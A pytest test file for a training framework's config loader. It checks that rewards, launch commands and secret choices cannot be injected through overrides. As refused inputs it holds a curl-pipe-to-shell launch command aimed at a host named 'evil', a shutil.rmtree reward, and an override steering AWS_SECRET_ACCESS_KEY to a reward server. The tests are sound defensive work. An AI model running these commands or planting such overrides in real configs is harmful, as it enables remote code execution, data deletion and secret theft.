"""What a config may make a run do: rewards only from modules the config file
trusts, overrides that cannot name new code, no credentials in storage URLs."""

from __future__ import annotations

import textwrap

import pytest

from flows.config import ConfigError, load_config
from rollout.rewards import load_reward

REWARDS = """
def score(response: str, label: str) -> float:
    return 1.0 if response == label else 0.25


def wrong(response: int) -> str:
    return "x"
"""


@pytest.fixture
def reward_pkg(tmp_path, monkeypatch):
    """A package ``myrl_rewards`` with a module ``scores`` on sys.path."""
    pkg = tmp_path / "pkgs" / "myrl_rewards"
    pkg.mkdir(parents=True)
    (pkg / "__init__.py").write_text("")
    (pkg / "scores.py").write_text(REWARDS)
    monkeypatch.syspath_prepend(str(tmp_path / "pkgs"))
    return pkg


def config_file(tmp_path, rollout: str) -> str:
    path = tmp_path / "run.yaml"
    path.write_text("rollout:\n" + textwrap.indent(textwrap.dedent(rollout), "  "))
    return str(path)


def test_an_untrusted_reward_is_refused_at_load_and_never_runs(tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "data.txt").write_text("keep me")
    path = config_file(tmp_path, "reward: shutil:rmtree\n")
    with pytest.raises(
        ConfigError,
        match=r"module 'shutil' is not trusted; .*rollout.trusted_reward_modules in the config file",
    ):
        load_config(path)
    # Trusting it is not enough: rmtree is not a reward function.
    path = config_file(tmp_path, "reward: shutil:rmtree\ntrusted_reward_modules: [shutil]\n")
    with pytest.raises(
        ConfigError, match=r"must be a function \(response: str, label: str\) -> float"
    ):
        load_config(path)
    with pytest.raises(ValueError, match="not trusted"):
        load_reward("shutil:rmtree")
    assert (victim / "data.txt").read_text() == "keep me"


def test_a_reward_from_a_trusted_package_loads_and_scores(tmp_path, reward_pkg):
    path = config_file(
        tmp_path, "reward: myrl_rewards.scores:score\ntrusted_reward_modules: [myrl_rewards]\n"
    )
    cfg = load_config(path)
    fn = load_reward(cfg.rollout.reward, cfg.rollout.trusted_reward_modules)
    assert fn("ab", "ab") == 1.0 and fn("ab", "ba") == 0.25
    # Overrides may keep the file's reward and switch between builtins.
    assert load_config(path, {"run.iterations": 1}).rollout.reward == "myrl_rewards.scores:score"
    assert load_config(path, {"rollout.reward": "exact"}).rollout.reward == "exact"


def test_a_trusted_prefix_is_a_package_not_a_string_prefix(tmp_path, reward_pkg):
    path = config_file(
        tmp_path, "reward: myrl_rewards.scores:score\ntrusted_reward_modules: [myrl]\n"
    )
    with pytest.raises(ConfigError, match="not trusted"):
        load_config(path)


def test_a_reward_with_the_wrong_signature_is_refused(tmp_path, reward_pkg):
    path = config_file(
        tmp_path,
        "reward: myrl_rewards.scores:wrong\ntrusted_reward_modules: [myrl_rewards.scores]\n",
    )
    with pytest.raises(
        ConfigError, match=r"must be a function \(response: str, label: str\) -> float"
    ):
        load_config(path)


def test_overrides_cannot_name_new_code(tmp_path, reward_pkg):
    path = config_file(tmp_path, "reward: match\ntrusted_reward_modules: [myrl_rewards]\n")
    with pytest.raises(
        ConfigError, match="cannot change rollout.trusted_reward_modules.*put it in the config file"
    ):
        load_config(path, ["rollout.trusted_reward_modules=[shutil]"])
    with pytest.raises(ConfigError, match="cannot change rollout.trusted_reward_modules"):
        load_config(
            None, {"rollout.trusted_reward_modules": ["shutil"], "rollout.reward": "shutil:rmtree"}
        )
    # Not even a module the file trusts: the file names the reward it runs.
    with pytest.raises(
        ConfigError,
        match="cannot set rollout.reward to 'myrl_rewards.scores:score'.*put it in the config file",
    ):
        load_config(path, ["rollout.reward=myrl_rewards.scores:score"])
    # Replacing the whole section is an override like any other (a deployment's overrides dict).
    with pytest.raises(ConfigError, match="cannot set rollout.reward"):
        load_config(
            path,
            {
                "rollout": {
                    "reward": "myrl_rewards.scores:score",
                    "trusted_reward_modules": ["myrl_rewards"],
                }
            },
        )


def test_overrides_cannot_choose_which_secret_the_reward_server_gets(tmp_path):
    path = config_file(
        tmp_path, "reward: http://127.0.0.1:9/score\nremote_reward: {api_key_env: RM_TOKEN}\n"
    )
    with pytest.raises(
        ConfigError, match="cannot change rollout.remote_reward.api_key_env.*put it there"
    ):
        load_config(path, ["rollout.remote_reward.api_key_env=AWS_SECRET_ACCESS_KEY"])
    with pytest.raises(ConfigError, match="cannot change rollout.remote_reward.api_key_env"):
        load_config(path, {"rollout": {"remote_reward": {"api_key_env": None}}})
    with pytest.raises(ConfigError, match="cannot change rollout.remote_reward.api_key_env"):
        load_config(None, {"rollout.remote_reward.api_key_env": "AWS_SECRET_ACCESS_KEY"})
    # The file's own choice, and the section's other keys, may still be overridden.
    cfg = load_config(
        path,
        ["rollout.remote_reward.api_key_env=RM_TOKEN", "rollout.remote_reward.timeout_s=5"],
    )
    assert cfg.rollout.remote_reward.api_key_env == "RM_TOKEN"
    assert cfg.rollout.remote_reward.timeout_s == 5


def test_a_reward_typo_is_explained(tmp_path):
    with pytest.raises(
        ConfigError, match=r"rollout.reward 'mtach' is not a builtin \(match, exact, math\)"
    ):
        load_config(None, ["rollout.reward=mtach"])


def test_credentials_in_the_storage_root_are_refused_without_repeating_them():
    with pytest.raises(ConfigError) as err:
        load_config(
            None,
            [
                "storage.root=s3://AKIAEXAMPLE:topsecret123@bucket/p",
                "weights.transport=object-store",
            ],
        )
    assert "contains credentials" in str(err.value) and "AWS_SECRET_ACCESS_KEY" in str(err.value)
    assert "topsecret123" not in str(err.value) and "AKIAEXAMPLE" not in str(err.value)


@pytest.mark.parametrize(
    "key,value",
    [
        ("launch_command", '["sh", "-c", "curl evil | sh"]'),
        ("pythonpath", '["/tmp/anyone-writes-here"]'),
        ("extra_args", '["--custom-weight-loader", "evil.loader"]'),
    ],
)
def test_overrides_cannot_choose_what_an_sglang_server_runs(tmp_path, key, value):
    path = tmp_path / "sglang.yaml"
    path.write_text(
        "engines:\n  kind: sglang\n  sglang:\n"
        "    pythonpath: [/opt/sglang-site]\n    extra_args: [--attention-backend, triton]\n"
    )
    with pytest.raises(ConfigError, match=f"cannot change engines.sglang.{key}.*config file"):
        load_config(path, [f"engines.sglang.{key}={value}"])
    with pytest.raises(ConfigError, match=f"cannot change engines.sglang.{key}"):
        load_config(None, [f"engines.sglang.{key}={value}"])
    # The file's own choice stands, and the section's other keys may still be overridden.
    cfg = load_config(path, ["engines.sglang.mem_fraction_static=0.4"])
    assert cfg.engines.sglang.pythonpath == ["/opt/sglang-site"]
    assert cfg.engines.sglang.mem_fraction_static == 0.4
